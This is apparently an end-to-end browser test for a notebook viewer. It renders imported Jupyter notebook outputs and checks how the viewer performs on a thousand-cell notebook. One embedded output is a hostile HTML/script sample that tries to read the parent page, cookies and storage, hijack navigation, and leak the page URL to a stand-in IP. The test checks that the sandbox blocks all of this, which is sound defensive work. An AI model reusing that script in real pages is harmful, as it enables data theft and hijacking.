// Outputs of every kind in a notebook that was imported, and one that wants into the app.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { open, signIn, until } from "./stage.mjs";

export const title = "notebook: outputs, and a hostile one";

const dot =
  "iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAIAAABvFaqvAAAAVklEQVR42mP49eEZVRADPQzaZ6SBiUgzCKsR+I1jIMMUrGYxkGcKplkMZJuCZhYDJaYgm0Vtg8g2BW7WqEFD2KDBlyCpmdeomfupWR5Rs4SkZplNBgIAmdX8VrX3ZgEAAAAASUVORK5CYII=";
const frame = `<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style><table border="1" class="dataframe">
<thead><tr style="text-align: right;"><th></th><th>port</th><th>height</th></tr></thead><tbody>
<tr><th>0</th><td>Brest</td><td>6.1</td></tr><tr><th>1</th><td>Dover</td><td>4.7</td></tr></tbody></table></div>`;
/** Whatever a page could try: it says what it got. */
const hostile = `<p id="said">nothing yet</p><div style="height:120px;background:#8884">a box of 120</div><script>
const got = [];
const attempt = (name, act) => { try { const value = act(); if (value) got.push(name); } catch {} };
attempt("parent's page", () => parent.document.body);
attempt("cookies", () => document.cookie !== undefined && "cookies");
attempt("storage", () => localStorage.length >= 0 && "storage");
attempt("top", () => { top.location = "about:blank#taken"; return false; });
attempt("popup", () => open("about:blank"));
for (let n = 0; n < 5; n += 1) parent.postMessage({ ready: true }, "*");
parent.postMessage({ height: 1e9 }, "*");
fetch(new URL("api/me", location.href)).then((a) => a.text()).then((t) => got.push("api: " + t), () => {})
  .finally(() => { document.getElementById("said").textContent = "got: [" + got.join(", ") + "] in " + self.origin; });
new Image().src = "http://192.0.2.1/?leak=" + encodeURIComponent(location.href);
</script>`;

const code = (source, outputs, count) => ({
  cell_type: "code",
  id: `c${count}`,
  execution_count: count,
  metadata: {},
  source,
  outputs,
});
const shown = (data, metadata = {}) => ({ output_type: "display_data", data, metadata });

const notebook = {
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
  cells: [
    {
      cell_type: "markdown",
      id: "m1",
      metadata: {},
      source: "# Heights\n\nA dot: ![dot](attachment:dot.png) and $$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$",
      attachments: { "dot.png": { "image/png": dot } },
    },
    code(
      "print('one')",
      [
        { output_type: "stream", name: "stdout", text: "\u001b[32mgreen\u001b[0m\n10%\r100% done\n" },
        { output_type: "stream", name: "stderr", text: "a warning\n" },
      ],
      1,
    ),
    code(
      "frame",
      [
        {
          output_type: "execute_result",
          execution_count: 2,
          data: { "text/html": frame, "text/plain": "plain" },
          metadata: {},
        },
      ],
      2,
    ),
    code("dot", [shown({ "image/png": dot, "text/plain": "<Figure size 10x10>" }, { "image/png": { width: 60 } })], 3),
    code("tree", [shown({ "application/json": { a: [1, 2, { deep: true }], b: "text" } })], 4),
    code("formula", [shown({ "text/latex": "$\\displaystyle e^{i\\pi} + 1 = 0$", "text/plain": "0" })], 5),
    code(
      "1/0",
      [
        {
          output_type: "error",
          ename: "ZeroDivisionError",
          evalue: "division by zero",
          traceback: ["\u001b[31m---------\u001b[0m", "\u001b[31mZeroDivisionError\u001b[0m: division by zero"],
        },
      ],
      6,
    ),
    code("hostile", [shown({ "text/html": hostile })], 7),
    code(
      "figure",
      [
        shown({
          "application/vnd.plotly.v1+json": { data: [{ type: "scatter", x: [1, 2, 3], y: [2, 1, 3] }], layout: {} },
        }),
      ],
      8,
    ),
  ],
};

/** A notebook of a thousand cells, each with an output. */
const large = {
  ...notebook,
  cells: Array.from({ length: 1000 }, (_, at) => ({
    ...code(
      `value_${at} = ${at}\nprint(value_${at})`,
      [{ output_type: "stream", name: "stdout", text: `${at}\n` }],
      at + 1,
    ),
    id: `cell-${at}`,
  })),
};

export async function journey() {
  // Without the demo's own notebook: the list begins empty.
  const stage = await open({ env: { CASTALIA_NO_DEMO_FLOW: "true" } });
  const { page, host, troubles, look } = stage;
  const folder = mkdtempSync(join(tmpdir(), "castalia-notebooks-"));
  const write = (name, value) => {
    writeFileSync(join(folder, name), typeof value === "string" ? value : JSON.stringify(value));
    return join(folder, name);
  };
  const blocked = [];
  page.on("requestfailed", (request) => blocked.push(`${request.url()} ${request.failure()?.errorText}`));
  const cell = (number) => page.locator("[data-cell]").nth(number);
  try {
    await signIn(page, host.address);
    await page.goto(`${host.address}projects/demo/notebooks`);
    await page.getByRole("heading", { name: "No notebooks yet" }).waitFor();

    // What is no notebook is told; a notebook is opened.
    const files = page.getByLabel("Notebook files");
    await files.setInputFiles(write("wrong.ipynb", "{"));
    await page.getByLabel("Notices").getByText("its text is not JSON").waitFor();
    await files.setInputFiles(write("Heights.ipynb", notebook));
    await page.getByRole("heading", { level: 1, name: /Heights/ }).waitFor();

    await page.getByRole("heading", { name: "Heights", level: 3 }).waitFor();
    await page.locator(".nb-markdown math").first().waitFor();
    await page.locator(".nb-markdown img[alt=dot]").waitFor();
    await cell(1).getByText("100% done").waitFor();
    await cell(2).getByRole("cell", { name: "Brest" }).waitFor();
    await look("notebook-outputs");

    // Dragged below the third, and taken back.
    await cell(1).hover();
    await cell(1)
      .locator(".nb-grip")
      .dragTo(cell(2), { targetPosition: { x: 300, y: 100 } });
    await cell(2).getByText("100% done").waitFor();
    await cell(2).focus();
    await page.keyboard.press("z");
    await cell(1).getByText("100% done").waitFor();

    // The hostile one runs, gets nothing, and can't go beyond its frame.
    await cell(7).scrollIntoViewIfNeeded();
    const inside = cell(7).frameLocator("iframe");
    await inside.getByText("got:").waitFor();
    const said = await inside.locator("#said").textContent();
    if (said !== "got: [] in null") troubles.push(`the hostile output ${said}`);
    await until(
      "the frame is as high as a frame may be",
      async () => (await cell(7).locator("iframe").boundingBox()).height > 150,
    );
    if ((await cell(7).locator("iframe").boundingBox()).height > 7000) troubles.push("an output took the page");
    if (!page.url().includes("/notebooks/")) troubles.push("an output took the window");
    await cell(5).scrollIntoViewIfNeeded();
    await look("notebook-outputs-more");
    await cell(8).scrollIntoViewIfNeeded();
    await cell(8).locator("[data-drawn]").waitFor();
    await cell(8).scrollIntoViewIfNeeded();
    await look("notebook-figure");

    // A thousand cells: shown at once, walked by keys, written in.
    await page.goto(`${host.address}projects/demo/notebooks`);
    await files.setInputFiles(write("Large.ipynb", large));
    await page.getByRole("heading", { level: 1, name: /Large/ }).waitFor();
    const begin = Date.now();
    await page.goto(page.url());
    await page.locator("[data-cells='1000']").waitFor();
    await cell(0).locator(".cm-content").waitFor();
    const took = Date.now() - begin;
    console.log(`  a thousand cells are there after ${took} ms`);
    if (took > 8000) troubles.push(`a thousand cells took ${took} ms`);
    const editors = await page.locator(".cm-editor").count();
    if (editors > 60) troubles.push(`${editors} editors for a thousand cells`);
    await cell(0).focus();
    for (let n = 0; n < 20; n += 1) await page.keyboard.press("j");
    await page.locator("[data-cell=cell-20][data-mode=command]").waitFor();
    await cell(990).scrollIntoViewIfNeeded();
    await cell(990).locator(".cm-content").click();
    await page.keyboard.type("# here ");
    await cell(990).getByText("# here").waitFor();
    await page.locator("[data-save=saved]").waitFor();
    const turned = Date.now();
    await page.getByRole("button", { name: "Canvas" }).click();
    await page.locator(".nb-node").nth(3).waitFor();
    console.log(`  and on the canvas after ${Date.now() - turned} ms`);
    const drawn = await page.locator(".nb-node").count();
    if (drawn > 200) troubles.push(`${drawn} cells are drawn on the canvas at once`);
  } finally {
    rmSync(folder, { recursive: true, force: true });
    await stage.close();
  }
  // The policy of the frame says no, aloud; what was asked for elsewhere never left the browser.
  if (!blocked.some((one) => /^http:\/\/192\.0\.2\.1.* csp$/.test(one))) troubles.push(`not blocked: ${blocked}`);
  const loud = /Content Security Policy|sandboxed|Unsafe attempt|asked elsewhere: http:\/\/192\.0\.2\.1|CORS|Blocked/;
  return troubles.filter((trouble) => !loud.test(trouble));
}
